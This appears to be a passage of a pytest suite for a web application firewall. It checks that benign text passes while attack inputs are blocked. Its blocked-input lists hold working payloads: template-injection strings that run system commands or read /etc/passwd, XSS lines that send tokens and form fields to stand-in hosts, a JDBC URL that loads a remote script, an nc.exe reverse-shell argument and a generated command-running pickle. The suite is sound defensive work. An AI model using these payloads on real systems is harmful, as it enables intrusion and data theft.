    check_passes(edge, SCHEME_WORDS)


# An entry point called with nothing: eval and the timers run nothing,
# and an empty call a word follows is a name in a sentence; a dialog's
# empty call as code still fires.
EMPTY_CALL_MENTIONS = ["Python's `eval()` is dangerous; prefer `ast.literal_eval()`",
                       "use JSON.parse() instead of eval()", "setTimeout() takes a callback",
                       "alert() boxes are annoying", "Why does `confirm()` block the page?",
                       "setInterval() and clearInterval() pair up"]
EMPTY_DIALOGS = ["alert()", '"-alert()-"', '";alert();//', "javascript:alert()", "prompt()",
                 "'-confirm()-'", "atob()"]


def test_empty_calls_named_in_text_pass(edge):
    check_passes(edge, EMPTY_CALL_MENTIONS)


def test_empty_dialog_calls_as_code_blocked(edge):
    check_blocked(edge, EMPTY_DIALOGS)


# PHP's complex variable with blanks after the "$" ("$ {'a'}"); a regular
# expression's end before a block is nginx's configuration.
PHP_SPACED_VARIABLES = ['x = $ {"a"}', "$ {$x}", "if ($a) $ {b}", "echo $ {'_GET'}"]
REGEX_END_BEFORE_BLOCK = ["location ~ \\.php$ { fastcgi_pass unix:/run/php/php8.2-fpm.sock; }",
                          "location ~* \\.(js|css)$ { expires 30d; }"]


def test_spaced_php_complex_variables_blocked(edge):
    check_blocked(edge, PHP_SPACED_VARIABLES)


def test_a_regex_end_before_a_block_passes(edge):
    check_passes(edge, REGEX_END_BEFORE_BLOCK)


# A PHP function after one ":" (a label's, a case's, the ternary's) is
# called; after "::" it is a class's static method of the same name.
PHP_AFTER_A_COLON = [":phpversion();", ":phpinfo();", "x:system('id');", ":passthru($_GET[c]);",
                     "a?b:shell_exec('ls')"]
PHP_STATIC_METHODS = ["Foo::system('x')", "parent::exec($cmd)", "DB::exec($sql)",
                      "Note:system() is slow"]
# The location's navigation methods given a URL are location = URL.
LOCATION_METHODS = ["location.replace(\"https://evil.example\")", "location.assign('//evil.example')",
                    "location.assign(`javascript:alert(1)`)", ";location.replace('http://x.example')//"]
LOCATION_METHOD_MENTIONS = ["The location.replace() method swaps the page",
                            "location.assign(path)", "use location.replace(next) after login"]


def test_php_calls_after_a_colon_blocked(edge):
    check_blocked(edge, PHP_AFTER_A_COLON)


def test_static_methods_of_php_names_pass(edge):
    check_passes(edge, PHP_STATIC_METHODS)


def test_location_methods_given_a_url_blocked(edge):
    check_blocked(edge, LOCATION_METHODS)


def test_location_methods_named_pass(edge):
    check_passes(edge, LOCATION_METHOD_MENTIONS)


# __proto__ as a key in brackets, then written through, is prototype
# pollution as "__proto__[x]=" is; named in a sentence it is not.
PROTO_IN_BRACKETS = ["a[__proto__][b]=1", "x['__proto__'].y=1", 'obj["__proto__"]["admin"]=true',
                     "q[ __proto__ ]=1"]
PROTO_NAMED = ["the __proto__ property is deprecated", "Use obj.__proto__ sparingly",
               "see [__proto__] in the docs"]


def test_proto_keys_in_brackets_blocked(edge):
    check_blocked(edge, PROTO_IN_BRACKETS)


def test_proto_named_in_text_passes(edge):
    check_passes(edge, PROTO_NAMED)


# Perl's Template Toolkit: "[% %]" with arithmetic, a call or a directive
# that loads or runs code; a bracketed percentage or a plain variable is
# text.
TT2_EXPRESSIONS = ["[% 7*7 %]", "[% INCLUDE /etc/passwd %]", "[% USE dir = Directory('/') %]",
                   "[%+ 7 * 7 +%]", "x[% PROCESS config %]"]
TT2_LOOKALIKES = ["Save [50% off] today", "[% discount %] is shown here",
                  "Progress: [%%%%%    ] 50%"]


def test_template_toolkit_expressions_blocked(edge):
    check_blocked(edge, TT2_EXPRESSIONS)


def test_template_toolkit_lookalikes_pass(edge):
    check_passes(edge, TT2_LOOKALIKES)


# A template's control directives ("{% if %}", "{% for %}", "{% set %}")
# run nothing of their own: a note's template passes at paranoia 1; at
# paranoia 2 they are a blind probe's shape (CRS 934180's level). A
# directive that loads or dumps, or one with arithmetic, a call or a
# dunder, is refused at paranoia 1; one that extends or includes another
# template by its relative name, the first line of most templates, is the
# template's own text (test_31_waf_detect_devtext), by a name in a
# variable or a path out of the templates it is not.
CONTROL_DIRECTIVES = ["{% if user.is_admin %}Admin{% endif %}", "{% set total = 0 %}",
                      "{% for item in items %}<li>{{ item.name }}</li>{% endfor %}",
                      "{% if True %}49{% endif %}", "{%- if x -%}"]
TEMPLATE_NAMES = ["{% include 'header.html' %}", '{% extends "layouts/base.html" %}']
DIRECTIVES_THAT_RUN = ["{% include template_name %}", "{% include '../../app.py' %}",
                       "{% import os %}", "{% debug %}",
                       "{% with a = 7*7 %}{{ a }}{% endwith %}", "{% if ''.__class__ %}x{% endif %}"]


@pytest.fixture(scope="module")
def pl2_edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-pl2"), waf_config(paranoia=2)).start()
    yield e
    e.stop()


def test_control_directives_pass_at_paranoia_1(edge):
    check_passes(edge, CONTROL_DIRECTIVES + TEMPLATE_NAMES)


def test_control_directives_refused_at_paranoia_2(pl2_edge):
    check_blocked(pl2_edge, CONTROL_DIRECTIVES)


def test_directives_that_run_refused(edge):
    check_blocked(edge, DIRECTIVES_THAT_RUN)


# A template's expression that only presents data (names and member
# paths, indexes, filters and helpers with literal or named arguments,
# Liquid's, Jinja's, Handlebars', ERB's) computes nothing an attacker
# wants: a merge field of a marketing mail, a notification's text. One
# that reaches into the host language (a dunder, reflection, a function
# handed to a filter by name, the request's server side), or multiplies
# two literals (the probe), still runs.
TEMPLATES_OF_DATA = [
    "Reminder: {{ appointment.start | date: '%A, %B %-d at %l:%M %p' }} with {{ staff.name }}",
    "{{ 'Hello' | t }} {{ customer.first_name | default: 'friend' }}!",
    "{{i18n 'checkout.total' amount=(format_money total currency)}}",
    "<%= @user.name %> placed order <%= @order.id %> on <%= l(@order.created_at, format: :short) %>",
    'Hello {{ user.first_name|default("there") }}, you have {{ notifications|length }} new.',
    "{{ product.title | upcase }} now {{ product.price | times: 0.8 | money }}",
    "{{trigger.body.line_items[0].sku}} - {{trigger.body.line_items[0].quantity}}",
    "{{ x[1:] }}",
    "{{ config(materialized='view', alias='orders_v2') }}", "{{ lipsum(2) }}",
    "{% if is_incremental() %}where updated_at > (select max(updated_at) from {{ this }}){% endif %}",
    "{% macro sum_if(col, value) %}sum(case when {{ col }} = '{{ value }}' then 1 else 0 end)"
    "{% endmacro %}",
    "{% call statement('max_id', fetch_result=True) %}select 1{% endcall %}"]
TEMPLATES_THAT_REACH = [
    "{{7*7}}", "{{ 7 * '7' }}", "<%= 7*7 %>", "{{ config.items() }}", "{{ lipsum.__globals__ }}",
    "{{['id']|filter('system')}}", "{{['cat /etc/passwd']|map('passthru')|join}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}",
    "{{ app.request.server.all|join(',') }}", "{{ request.environ['HOME'] }}",
    "<%= File.read('config/database.yml') %>", "<%= open('|id').read %>",
    "<%= Dir.entries('/') %>", "{{ x.constructor.constructor('return 1')() }}",
    "{{ config }}", "{{ self }}", "{{ request }}", "{{ lipsum }}", "{{ range.constructor }}",
    "{{ config.__class__ }}", "{{ config['SECRET_KEY'] }}", "{% set x = lipsum.__globals__ %}",
    "{% debug %}", "{% set cmd = ['id']|map('system')|join %}", "{% if 7*7 == 49 %}y{% endif %}"]


@pytest.mark.parametrize("value", TEMPLATES_OF_DATA)
def test_templates_that_present_data_pass(ssti_edge, value):
    assert not rule_fired(ssti_edge, value, "ssti"), value


@pytest.mark.parametrize("value", TEMPLATES_THAT_REACH)
def test_templates_that_reach_or_probe_are_refused(ssti_edge, value):
    assert rule_fired(ssti_edge, value, "ssti"), value


# Head elements that describe the page (a <meta> without http-equiv or
# charset, a <link> whose rel names nothing the page loads: alternate,
# canonical) act on nothing: an SEO field's markup, a sitemap's
# xhtml:link. One that refreshes, sets a cookie or a charset, or loads a
# stylesheet, an import or an icon, or has no rel, still acts.
HEAD_TAGS_INERT = [
    '<link rel="alternate" hreflang="de-AT" href="https://shop.example.com/de-at/" />',
    '<link rel="canonical" href="https://shop.example.com/products/linen-shirt" />',
    '<meta name="description" content="Handmade ceramics from Porto: mugs &amp; vases.">',
    '<meta property="og:title" content="Spring Lookbook 2025 | Linen &amp; Co">',
    '<url><loc>https://shop.example.com/fr/</loc><xhtml:link rel="alternate" hreflang="de" '
    'href="https://shop.example.com/de/"/></url>']
HEAD_TAGS_ACTING = [
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<link rel=import href=//evil.example/x.html>", '<link href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<meta charset="UTF-7">',
    '<link rel="alternate" rel="stylesheet" href="//evil.example/x.css">',
    '<link rel="alternate stylesheet" href="//evil.example/x.css">',
    '"><meta http-equiv=refresh content="0;url=//evil.example">',
    '<link rel="icon" href="//evil.example/f.ico">',
    '<xhtml:meta http-equiv="refresh" content="0;url=//evil.example"/>']


@pytest.mark.parametrize("value", HEAD_TAGS_INERT)
def test_head_tags_that_describe_the_page_pass(xss_edge, value):
    assert not rule_fired(xss_edge, value, "xss-tag"), value


@pytest.mark.parametrize("value", HEAD_TAGS_ACTING)
def test_head_tags_that_load_or_redirect_are_refused(xss_edge, value):
    assert rule_fired(xss_edge, value, "xss-tag"), value


# "blocks javascript: links." is a sentence (one word a "." ends is no
# script: JavaScript rejects it); an attribute selector that selects
# ("[loading=\"lazy\"]") reads nothing out, a prefix, suffix or substring
# match that fetches does.
@pytest.mark.parametrize("value", [
    "That's why our editor strips onclick attributes and blocks javascript: links.",
    "Never allow javascript: urls, ever.",
    'img[loading="lazy"] { background: #f2f2f2 url(\'https://cdn.example.com/p.svg\') no-repeat; }'])
def test_scheme_in_a_sentence_and_selecting_css_pass(xss_edge, value):
    assert not rule_fired(xss_edge, value, "xss-scheme"), value
    assert not rule_fired(xss_edge, value, "xss-css"), value


@pytest.mark.parametrize("value,rule", [
    ("<a href='javascript: void(0)'>", "xss-scheme"), ("javascript: location.href", "xss-scheme"),
    ('input[value^="a"]{background:url(https://evil.example/?a)}', "xss-css"),
    ("input[name=pw][value$=x]{background:url(//e/x)}", "xss-css")])
def test_scheme_code_and_reading_css_refused(xss_edge, value, rule):
    assert rule_fired(xss_edge, value, rule), value


# A Java name in a sentence's code span is a mention ("value of type
# `java.lang.Long`", Jackson's error quoted); as a value, a type key's
# value, a YAML tag or after "=", it is what a deserializer resolves.
def test_java_names_in_a_sentence_code_span_pass(edge):
    v = ("com.fasterxml.jackson.databind.exc.MismatchedInputException: Cannot deserialize "
         "value of type `java.lang.Long` from String \"10234A\"")
    assert not rule_fired(edge, v, "java-class"), v


@pytest.mark.parametrize("value", ["`java.lang.Runtime`", '{"@type":"java.lang.Runtime"}',
                                   "x=`java.lang.Runtime`"])
def test_java_names_resolved_are_refused(edge, value):
    assert rule_fired(edge, value, "java-class"), value


# A JDBC URL runs what its parameters say when a data tool connects: H2's
# INIT, MySQL's autoDeserialize and interceptors, PostgreSQL's factories.
# A connection string with ordinary parameters passes.
@pytest.mark.parametrize("value", [
    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://attacker.example/x.sql'",
    "jdbc:mysql://attacker.example:3306/db?autoDeserialize=true&queryInterceptors=com.mysql.cj."
    "jdbc.interceptors.ServerStatusDiffInterceptor",
    "jdbc:mysql://x.example:3306/db?allowLoadLocalInfile=true",
    "jdbc:postgresql://db.example.com/app?socketFactory=org.springframework.context.support."
    "ClassPathXmlApplicationContext&socketFactoryArg=http://x.example/b.xml"])
def test_jdbc_urls_that_run_code_are_refused(edge, value):
    assert rule_fired(edge, value, "java-jdbc"), value


@pytest.mark.parametrize("value", [
    "jdbc:postgresql://db.internal:5432/analytics?sslmode=require",
    "jdbc:mysql://db.example.com:3306/shop?useSSL=true&serverTimezone=UTC",
    "jdbc:h2:mem:testdb;DB_CLOSE_DELAY=-1"])
def test_ordinary_jdbc_urls_pass(edge, value):
    assert not rule_fired(edge, value, "java-jdbc"), value


def test_an_element_found_by_a_selector_is_read_by_what_follows(edge):
    """querySelector walks the tree as every snippet does; what counts is
    what follows it: a write to the element, its HTML or a field's value
    read, the form sent, the element clicked. A listener added, a class
    toggled, or its text read in an error message is the page's own."""
    check_passes(edge, [
        'document.querySelector("#menu-toggle").addEventListener("click", () => {\n'
        '  document.body.classList.toggle("menu-open");\n});',
        "TypeError: null is not an object (evaluating "
        "'document.querySelector(\".cart-count\").textContent')",
        "const n = document.querySelectorAll('li').length;"])
    check_blocked(edge, [
        'document.querySelector("p").textContent="XSS"',
        "';document.querySelector('form').submit();//",
        "';fetch('//x.example/?'+document.querySelector('input[name=csrf]').value)//",
        "document.querySelectorAll('a')[0].href='//evil.example'"])


def test_a_javascript_string_closed_then_a_call_commented_out(edge):
    """The value closes the page's string ('x'' or '"'), an operator or ";"
    glued to the quote, a call, and "//" (or "<!--") ends the line: any
    call sends the page's data out, not only alert. Prose closes no quote
    after one token to go on with an operator; a code note starts with its
    own statement."""
    check_blocked(edge, [
        "';fetch('//x.example/')//",
        "\";fetch('//x.example/?c='+localStorage.token);//",
        "';new Image().src='//x.example/?'+document.querySelector('#pw').value;//",
        "';navigator.sendBeacon('//x.example',document.body.innerHTML)//",
        "abc'+eval(atob('YWxlcnQoMSk='))+'<!--"])
    check_passes(edge, ["it's -- fun (really) //", "const a = 'x'; foo(); // note",
                        "'use strict'; main() //", "See https://example.com/a'b (c) //"])


def test_a_script_element_made_by_any_document_is_refused(edge):
    check_blocked(edge, ["appendChild(createElement('script')).src='//x.example:8000'},0)>",
                         "x=createElement(\"script\");x.src='//h'"])
    check_passes(edge, ["createElement('div') adds a node", "use createElement to build the list"])


def test_a_script_capable_data_url_after_a_quote_is_refused(edge):
    """A data: URL of a type that runs script closes an attribute's quote
    as well as it starts a value; a sentence that names it does not."""
    check_blocked(edge, ['"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
                         "'data:image/svg+xml,<svg onload=alert(1)>'"])
    check_passes(edge, ["Use a data:text/html URL for quick tests of markup"])


def test_a_formula_in_a_csv_field_doubles_its_quotes(edge):
    """A CSV row's quoted field doubles the formula's quotes
    ('"=HYPERLINK(""http://..""&A2)"'): the same fetch of a cell's data."""
    check_blocked(edge, ['10234,"=HYPERLINK(""http://x.example/c?d=""&A2&B2,""Verify"")",2'])
    check_passes(edge, ['id,name\n1,"Say ""hi"""', '7,"=SUM(B2:B9)",ok'])


def test_numbers_joined_by_hyphens_are_no_arithmetic_in_a_template(edge):
    """A wiki citation's ISBN or a date in a template's braces is three or
    more numbers joined by "-", no probe computing; "{{7*7}}" and
    "{{'7'*7}}" still are."""
    check_passes(edge, ["{{cite book |isbn=978-3-12-345678-0 |page=42}}",
                        "{{ order.date | default: 2024-03-01 }}"])
    check_blocked(edge, ["{{7*7}}", "{{'7'*7}}", "{{ 7*7 }} {{isbn-978-3-12}}"])


def test_a_sieve_scripts_require_list_is_no_nodes_require(edge):
    """Sieve's 'require ["fileinto", "envelope"];' lists the extensions a
    mail filter uses; Node's require reached as an object by one key
    still counts."""
    check_passes(edge, ['require ["fileinto", "imap4flags"];\nif header :contains '
                        '"subject" "invoice" { fileinto "Billing"; }',
                        'require ["fileinto"];\nif address :is "from" "a@b.example" '
                        '{ fileinto "Lists"; }'])
    check_blocked(edge, ["require['child_process'].exec('id')",
                         "global.process.mainModule.require['child_process']"])


def test_a_graphql_include_directive_is_no_php_include(edge):
    """GraphQL's "@include(if: $withAuthor)" names an argument; PHP's
    include given a variable, a quoted wrapper or a URL still counts."""
    check_passes(edge, ["query Feed($withAuthor: Boolean!) { posts(first: 10) "
                        "{ id author @include(if: $withAuthor) { name } } }",
                        "{ me { email @include(if: $full) phone @skip(if: $short) } }"])
    check_blocked(edge, ["<?php include($_GET['p']); ?>",
                         "@include(http://evil.example/shell.txt)",
                         "include('php://filter/convert.base64-encode/resource=index.php')"])


def test_the_e_modifier_evaluates(edge):
    """sed's s///e runs the pattern space it made as a command; Perl's
    s///e and PHP's preg_replace /e evaluate the replacement. Without the
    e, or a path that is no pattern, nothing runs."""
    check_blocked(edge, ["s/^.*$/uname -a/e", "sed 's/x/whoami/e'", "/^(.+)$/e",
                         "#(\\w+)#ie"])
    check_passes(edge, ["s/colour/color/g", "/home/e", "https://example.com/en/edit",
                        "s/teh/the/ throughout the draft", "/srv/www/e/index.html"])


def test_form_controls_in_a_markdown_fence_are_code(edge):
    """A note's fenced example of a search box ("```html" then "<form
    action=\\"/find\\"><input name=\\"term\\"></form>"): a form that posts
    nowhere but to its own page, its inputs and buttons. Outside a fence
    they stay elements (a form's ids and names clobber a page's globals);
    in a fence, a handler, formaction, a script URL, a form posting to
    another origin and a script still act."""
    fence = "Notes for the widget:\n\n```html\n{}\n```\n"
    check_passes(edge, [fence.format('<form action="/find" method="get">\n  <input name="term">'
                                     '\n  <button>Find</button>\n</form>'),
                        fence.format('<input id="s" name="term" placeholder="Find...">')])
    check_blocked(edge, ['<form id="cfg"><input name="api" value="https://evil.example/x">'
                         '</form>', '<input name="term" placeholder="Find...">',
                         fence.format('<input autofocus onfocus="alert(1)">'),
                         fence.format('<button formaction="javascript:alert(1)">x</button>'),
                         fence.format('<form action="https://evil.example/c"><input name="pw">'
                                      '</form>'),
                         fence.format('<div id="w"></div>\n<script src="https://cdn.example.com'
                                      '/w.js"></script>')])


def test_dotnet_running_a_command_or_loading_code(edge):
    """.NET's ways from a string to a process or to code: Process.Start and
    ProcessStartInfo given a command's text (C#, Razor's "@{...}",
    PowerShell's static call), XAML's ObjectDataProvider calling Start on
    a Process, Assembly.Load of decoded bytes, a BinaryFormatter stream in
    base64. A snippet that passes a variable or an object initializer, an
    ObjectDataProvider bound to a repository's method, and the class named
    in a sentence run nothing."""
    check_blocked(edge, ['@{ System.Diagnostics.Process.Start("bash", "-c id"); }',
                         "[Diagnostics.Process]::Start('notepad')",
                         'new ProcessStartInfo(@"C:\\tools\\nc.exe", "-e cmd 10.0.0.9 80")',
                         '<ObjectDataProvider MethodName="Start" ObjectType="{x:Type d:Process}"/>',
                         "Assembly.Load(Convert.FromBase64String(blob)).EntryPoint",
                         "AAEAAAD/////AQAAAAAAAAAEAQAAAA=="])
    check_passes(edge, ["var run = Process.Start(info); run.WaitForExit();",
                        'Process.Start(new ProcessStartInfo { FileName = "dotnet" })',
                        '<ObjectDataProvider x:Key="items" MethodName="ListAll"/>',
                        "System.Diagnostics.Process is how .NET starts other programs.",
                        "var lib = Assembly.LoadFrom(path);"])


class _Runs:
    """An object whose pickle calls fn(*args) when loaded (never loaded here)."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def test_a_base64_pickle_that_imports_a_command_runner(edge):
    """A Python pickle in base64 (protocols 2-5: "gAJ", "gAN", "gAS",
    "gAW") whose GLOBAL or STACK_GLOBAL opcode imports os/posix,
    subprocess or builtins: loading it runs the call. A pickle of data,
    and random tokens that start the same way, import nothing."""
    import os
    import pickle
    import subprocess

    def b64(obj, proto):
        return base64.b64encode(pickle.dumps(obj, protocol=proto)).decode()

    check_blocked(edge, [b64(_Runs(os.system, ("uname",)), 2),
                         b64(_Runs(subprocess.check_output, (["id"],)), 4),
                         b64(_Runs(eval, ("2*3",)), 5),
                         "token=" + b64(_Runs(os.popen, ("ls",)), 3)])
    rng = random.Random(5)
    check_passes(edge, [b64({"cart": [1, 2], "user": "ann"}, p) for p in (2, 3, 4, 5)]
                 + ["gAJ" + "".join(rng.choice("qwertyuiopasdfghjklzxcvbnm0123456789")
                                    for _ in range(40)) for _ in range(5)])
